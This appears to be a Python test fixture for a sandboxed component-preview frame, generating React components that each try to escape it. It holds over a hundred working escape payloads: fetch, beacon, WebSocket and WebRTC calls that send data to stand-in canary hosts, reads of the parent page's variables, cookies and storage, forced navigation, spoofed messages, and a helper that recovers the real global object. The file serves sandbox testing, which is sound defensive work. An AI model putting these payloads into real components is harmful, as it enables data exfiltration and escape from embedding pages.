# ruff: noqa: E501 - a component on one line is easier to compare with the others
"""Components that try to leave the frame: to the network, to other pages, to the page that mounts them.

In their code ``$TCP`` is the URL of a canary, ``$UDP`` the address of another one, ``$DNS`` a host name that
nothing else asks for, and ``$HOST`` the URL of the page's own server. Each has a path or label of its own.
"""

EFFECTS = {
    # Requests by script.
    "fetch": "fetch('$TCP', { mode: 'no-cors' })",
    "fetch of the page's server": "fetch('$HOST', { credentials: 'include', mode: 'no-cors' })",
    "fetch that outlives the page": "fetch('$TCP', { method: 'POST', body: 'secret', keepalive: true, mode: 'no-cors' })",
    "fetchLater": "fetchLater('$TCP', { activateAfter: 0 })",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', '$TCP'); x.send()",
    "synchronous XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', '$HOST', false); x.send()",
    "beacon": "navigator.sendBeacon('$TCP', 'secret')",
    "WebSocket": "new WebSocket('$TCP'.replace('http', 'ws'))",
    "WebSocketStream": "new WebSocketStream('$TCP'.replace('http', 'ws'))",
    "EventSource": "new EventSource('$TCP')",
    "WebTransport": "new WebTransport('https://$UDP/x')",
    "import()": "import('$TCP')",
    "import() of data": "import('data:text/javascript,' + encodeURIComponent('fetch(\"$TCP\")'))",
    # WebRTC.
    "WebRTC STUN": "rtc(window, 'stun:$UDP')",
    "WebRTC TURN": "rtc(window, 'turn:$UDP')",
    "WebRTC host name": "rtc(window, 'stun:$DNS:3478')",
    "WebRTC by its old name": "const C = window.webkitRTCPeerConnection; rtc({ RTCPeerConnection: C }, 'stun:$UDP')",
    "WebRTC of a blank frame": "const f = add('iframe', {}); rtc(f.contentWindow, 'stun:$UDP')",
    "WebRTC of a document in a string": "add('iframe', { srcdoc: '<script>(' + rtc + ')(window, \"stun:$UDP\")</script>' })",
    "WebRTC of a written document": (
        "const f = add('iframe', {}); f.contentDocument.write('<script>(' + rtc + ')(window, \"stun:$DNS:3478\")</script>')"
    ),
    "WebRTC of a data document": (
        "add('iframe', { src: 'data:text/html,<script>(' + encodeURIComponent(rtc) + ')(window, \"stun:$UDP\")</script>' })"
    ),
    "WebRTC of a blob document": (
        "const b = new Blob(['<script>(' + rtc + ')(window, \"stun:$UDP\")</script>'], { type: 'text/html' });"
        "add('iframe', { src: URL.createObjectURL(b) })"
    ),
    "WebRTC of an object": "const o = add('object', { data: 'about:blank' }); setTimeout(() => rtc(o.contentWindow, 'stun:$UDP'), 50)",
    # Elements that load.
    "image": "new Image().src = '$TCP'",
    "image of the page's server": "new Image().src = '$HOST'",
    "image set": "add('img', { srcset: '$TCP 1x', src: '' })",
    "picture": "const p = add('picture'); const s = document.createElement('source'); s.srcset = '$TCP'; p.append(s, new Image())",
    "video": "add('video', { src: '$TCP', poster: '$TCP', autoplay: '' })",
    "audio": "new Audio('$TCP').play()",
    "track": "const v = add('video', {}); v.innerHTML = '<track default kind=captions src=\"$TCP\">'",
    "script": "add('script', { src: '$TCP' })",
    "module script": "add('script', { src: '$TCP', type: 'module' })",
    "inline script": "const s = document.createElement('script'); s.textContent = 'new Image().src=\"$TCP\"'; document.body.append(s)",
    "style sheet": "add('link', { rel: 'stylesheet', href: '$TCP' })",
    "imported style sheet": "add('style').textContent = '@import url($TCP);'",
    "CSS background": "document.body.style.backgroundImage = 'url($TCP)'",
    "CSS of every kind": (
        "add('style').textContent = 'body { cursor: url($TCP), auto; list-style-image: url($TCP); mask: url($TCP);"
        " border-image: url($TCP) 1; content: url($TCP); filter: url($TCP#a); background: image-set(\"$TCP\" 1x) }'"
    ),
    "CSS font": "add('style').textContent = '@font-face { font-family: X; src: url($TCP) } body { font: 1em X }'",
    "FontFace": "const f = new FontFace('X', 'url($TCP)'); document.fonts.add(f); f.load()",
    "constructed style sheet": (
        "const s = new CSSStyleSheet(); s.replaceSync('body { background: url($TCP) }'); document.adoptedStyleSheets = [s]"
    ),
    "paint worklet": "CSS.paintWorklet.addModule('$TCP')",
    "audio worklet": "new AudioContext().audioWorklet.addModule('$TCP')",
    "SVG image": "svg('<image href=\"$TCP\" width=\"9\" height=\"9\"/>')",
    "SVG use": "svg('<use href=\"$TCP#a\"/>')",
    "SVG filter image": "svg('<filter id=\"f\"><feImage href=\"$TCP\"/></filter><rect width=\"9\" height=\"9\" filter=\"url(#f)\"/>')",
    "SVG script": "svg('<script href=\"$TCP\"></script>')",
    "SVG document": "add('img', { src: 'data:image/svg+xml,' + encodeURIComponent('<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"$TCP\"/></svg>') })",
    "object": "add('object', { data: '$TCP' })",
    "embed": "add('embed', { src: '$TCP' })",
    "frame": "add('iframe', { src: '$TCP' })",
    "frame of the page's server": "add('iframe', { src: '$HOST' })",
    "frame with the page's document": "add('iframe', { srcdoc: '<img src=\"$TCP\"><script src=\"$TCP\"></script>' })",
    "fenced frame": "const f = add('fencedframe'); f.config = new FencedFrameConfig('$TCP')",
    "portal": "const p = add('portal', { src: '$TCP' }); p.activate()",
    # Hints.
    "prefetch": "add('link', { rel: 'prefetch', href: '$TCP' })",
    "preload": "add('link', { rel: 'preload', as: 'image', href: '$TCP' })",
    "module preload": "add('link', { rel: 'modulepreload', href: '$TCP' })",
    "prerender": "add('link', { rel: 'prerender', href: '$TCP' })",
    "preconnect": "add('link', { rel: 'preconnect', href: '$TCP' }); add('link', { rel: 'preconnect', href: 'https://$DNS' })",
    "DNS prefetch": "add('link', { rel: 'dns-prefetch', href: 'https://$DNS' })",
    "DNS prefetch of a link": (
        "add('meta', { 'http-equiv': 'x-dns-prefetch-control', content: 'on' }); add('a', { href: 'https://$DNS/' })"
    ),
    "icon": "add('link', { rel: 'icon', href: '$TCP' })",
    "manifest": "add('link', { rel: 'manifest', href: '$TCP' })",
    "speculation rules": (
        "const s = document.createElement('script'); s.type = 'speculationrules';"
        "s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['$TCP', '$HOST'], eagerness: 'immediate' }] });"
        "document.head.append(s)"
    ),
    # Navigation.
    "own location": "location.href = '$TCP'",
    "own location, to a name": "location.href = 'https://$DNS/'",
    "refresh to a name": "add('meta', { 'http-equiv': 'refresh', content: '0; url=https://$DNS/' })",
    "form to a name": "add('form', { action: 'https://$DNS/' }).submit()",
    "frame of a name": "add('iframe', { src: 'https://$DNS/' })",
    "popup of a name": "open('https://$DNS/')",
    "location of the page, to a name": "top.location.href = 'https://$DNS/'",
    "own location, to its own URL": "location.search = '?secret'",
    "refresh to its own URL": "add('meta', { 'http-equiv': 'refresh', content: '0; url=?secret' })",
    "own location, to the page's server": "location.assign('$HOST')",
    "own location, to script": "location.href = 'javascript:fetch(\"$TCP\")'",
    "location of the page": "top.location = '$TCP'",
    "location of the parent": "parent.location.href = '$HOST'",
    "refresh": "add('meta', { 'http-equiv': 'refresh', content: '0; url=$TCP' })",
    "base": "add('base', { href: '$TCP/' }); add('img', { src: 'relative.png' })",
    "link that is clicked": "add('a', { href: '$TCP' }).click()",
    "link to the top that is clicked": "add('a', { href: '$TCP', target: '_top' }).click()",
    "link with a ping": "add('a', { href: '#x', ping: '$TCP' }).click()",
    "link that downloads": "add('a', { href: 'data:text/plain,x', download: 'x.exe' }).click()",
    "link that downloads a blob": "add('a', { href: URL.createObjectURL(new Blob(['x'])), download: 'x' }).click()",
    "form": "const f = add('form', { action: '$TCP', method: 'post' }); f.submit()",
    "form with its own button": "const f = add('form', { action: '$HOST' }); f.innerHTML = '<button>x</button>'; f.requestSubmit()",
    "navigation API": "navigation.navigate('$TCP')",
    "document that is written": "document.open(); document.write('<img src=\"$TCP\"><script src=\"$TCP\"></script>'); document.close()",
    "document replaced": "document.documentElement.innerHTML = '<head><meta http-equiv=refresh content=\"0;url=$TCP\"></head>'",
    # Windows.
    "popup": "open('$TCP')",
    "popup by a click": "add('a', { href: '$TCP', target: '_blank' }).click()",
    "window of the page": "open('$HOST', '_parent')",
    "alert": "alert('x')",
    "confirm and prompt": "confirm('x'); prompt('x')",
    "print": "print()",
    "question before leaving": "onbeforeunload = (e) => e.preventDefault(); location.href = '$TCP'",
    "full screen": "document.body.requestFullscreen()",
    "pointer lock": "document.body.requestPointerLock()",
    # Workers.
    "worker of a blob": "new Worker(URL.createObjectURL(new Blob(['fetch(\"$TCP\")'])))",
    "worker of data": "new Worker('data:text/javascript,fetch(\"$TCP\")')",
    "shared worker": "new SharedWorker('$TCP')",
    "service worker": "navigator.serviceWorker.register('$HOST')",
    # The page.
    "document of the page": "leak(parent.document.title)",
    "variable of the page": "leak(parent.secret)",
    "variable of the page by the frame's element": "leak(frameElement.ownerDocument.defaultView.secret)",
    "cookie": "document.cookie = 'a=1'; leak(document.cookie)",
    "local storage": "real.localStorage.a = 1; leak(real.localStorage.a)",
    "session storage": "real.sessionStorage.a = 1; leak(real.sessionStorage.a)",
    "indexed database": "const r = real.indexedDB.open('a'); r.onsuccess = () => leak('open')",
    "cache storage": "real.caches.open('a').then(() => leak('open'))",
    "file system": "navigator.storage.getDirectory().then(() => leak('open'))",
    "broadcast channel": "new BroadcastChannel('page').postMessage('x')",
    "clipboard": "navigator.clipboard.readText().then(leak)",
    "camera": "navigator.mediaDevices.getUserMedia({ video: true }).then(() => leak('camera'))",
    "location of the user": "navigator.geolocation.getCurrentPosition(() => leak('position'))",
    "notification": "Notification.requestPermission().then((p) => p === 'granted' && leak(p))",
    "payment": "new PaymentRequest([{ supportedMethods: '$TCP' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).show()",
    "credentials": "navigator.credentials.get({ password: true }).then((c) => c && leak('credentials'))",
    "protocol handler": "navigator.registerProtocolHandler('web+x', '$TCP?%s')",
    "report": "new ReportingObserver(() => {}).observe(); throw new Error('$TCP')",
    "violation report": "add('meta', { 'http-equiv': 'Content-Security-Policy', content: 'img-src x; report-uri $TCP' }); new Image().src = 'y'",
    # History.
    "history": "for (let i = 0; i < 50; i++) history.pushState(i, '', '#' + i)",
    "history by hashes": "for (let i = 0; i < 50; i++) location.hash = 'x' + i",
    "history by links": "for (let i = 0; i < 50; i++) add('a', { href: '#y' + i }).click()",
    "history of a nested frame": (
        "const f = add('iframe', {}); for (let i = 0; i < 50; i++) f.contentWindow.history.pushState(i, '', '#' + i)"
    ),
    "hashes of a nested frame": (
        "const f = add('iframe', {}); for (let i = 0; i < 50; i++) f.contentWindow.location.hash = 'z' + i"
    ),
    "history backwards": "history.back(); history.go(-1)",
    # Messages and focus.
    "spoofed messages": (
        "for (const m of [{ type: 'ready' }, { type: 'height', height: 1e9 }, { type: 'status', index: 0, status: 'frozen' },"
        " { type: 'status', index: 99, status: 'failed' }, { type: 'navigate', url: '$TCP' }, { type: 'html', html: '<b>' },"
        " { type: 'pong', n: 1 }, { type: 'rendering', index: 1e9 }, '<img src=\"$TCP\">', null, 1])"
        " { parent.postMessage(m, '*'); top.postMessage(m, '*') }"
    ),
    "focus": "const i = add('input'); HTMLElement.prototype.focus.call(i); i.focus(); window.focus()",
    "focus by a nested frame": (
        "const i = add('input'); const f = add('iframe', {}); f.contentWindow.HTMLElement.prototype.focus.call(i)"
    ),
    "focus by attribute": "document.body.insertAdjacentHTML('beforeend', '<input autofocus><dialog open><input autofocus></dialog>')",
    "focus by a dialog": "const d = add('dialog'); d.innerHTML = '<input>'; d.showModal()",
}  # fmt: skip
"""Statements that run when the component has been mounted."""

MARKUP = {
    "image in markup": '<img src="$TCP" alt="" />',
    "lazy image set in markup": '<img srcSet="$TCP 2x" src="$TCP" loading="eager" alt="" />',
    "background in markup": '<div style={{ background: "url($TCP)", width: 9, height: 9 }} />',
    "Tailwind background": '<div className="bg-[url($TCP)] h-9 w-9" />',
    "frame in markup": '<iframe src="$TCP" title="x" />',
    "document in markup": '<iframe srcDoc={"<script>fetch(\'$TCP\')</script>"} title="x" />',
    "refresh in markup": '<meta httpEquiv="refresh" content="0; url=$TCP" />',
    "style sheet in markup": '<link rel="stylesheet" href="$TCP" precedence="x" />',
    "preconnect in markup": '<link rel="preconnect" href="https://$DNS" />',
    "script in markup": '<script async src="$TCP" />',
    "handler in HTML": '<div dangerouslySetInnerHTML={{ __html: "<img src=x onerror=\'fetch(`$TCP`)\'>" }} />',
    "HTML that loads": '<div dangerouslySetInnerHTML={{ __html: "<img src=$TCP><link rel=stylesheet href=$TCP>" }} />',
    "script link": "<a href=\"javascript:fetch('$TCP')\">x</a>",
    "video in markup": '<video src="$TCP" poster="$TCP" autoPlay muted />',
    "object in markup": '<object data="$TCP" />',
    "focus in markup": "<input autoFocus />",
}  # fmt: skip

MODULES = {
    "top-level statement": "fetch('$TCP', { mode: 'no-cors' });",
    "import of a URL": "import secret from '$TCP';",
    "style sheet of a module": "import '$TCP/x.css';",
    "constructor of a function": "Function.prototype.constructor('new Image().src = \"$TCP\"')();",
    "timer with a string": "setTimeout('new Image().src = \"$TCP\"', 0);",
}
"""Statements at the top of the module."""

HELPERS = r"""
// The frame puts other values in place of some names; code that means harm goes around them.
const real = (() => {}).constructor("return globalThis")();
const { document, history, location, navigation, navigator, parent, top } = real;
const window = real;
const add = (name, attributes = {}) => {
  const element = document.createElement(name);
  for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
  document.body.append(element);
  return element;
};
const svg = (inner) => document.body.insertAdjacentHTML("beforeend",
  '<svg xmlns="http://www.w3.org/2000/svg">' + inner + "</svg>");
// The frame has soft values in place of unknown names: only what is a text or a number was really read.
const leak = (value) => { if (/^(string|number)$/.test(typeof value) && value) (window.leaked ??= []).push(value); };
const rtc = function (realm, server) {
  const urls = server.startsWith("turn") ? { urls: server, username: "u", credential: "c" } : { urls: server };
  const connection = new realm.RTCPeerConnection({ iceServers: [urls] });
  connection.createDataChannel("x");
  connection.createOffer().then((offer) => connection.setLocalDescription(offer));
};
"""


def components():
    """Return the source of each component by its name."""
    sources = {}
    for name, code in EFFECTS.items():
        sources[name] = (
            'import { useEffect } from "react";\n' + HELPERS + "export default function Attack() {\n"
            f"  useEffect(() => {{ {code} }}, []);\n  return <p>attack</p>;\n}}\n"
        )
    for name, code in MARKUP.items():
        sources[name] = f"export default function Attack() {{\n  return <div><p>attack</p>{code}</div>;\n}}\n"
    for name, code in MODULES.items():
        sources[name] = f"{code}\nexport default function Attack() {{\n  return <p>attack</p>;\n}}\n"
    return sources
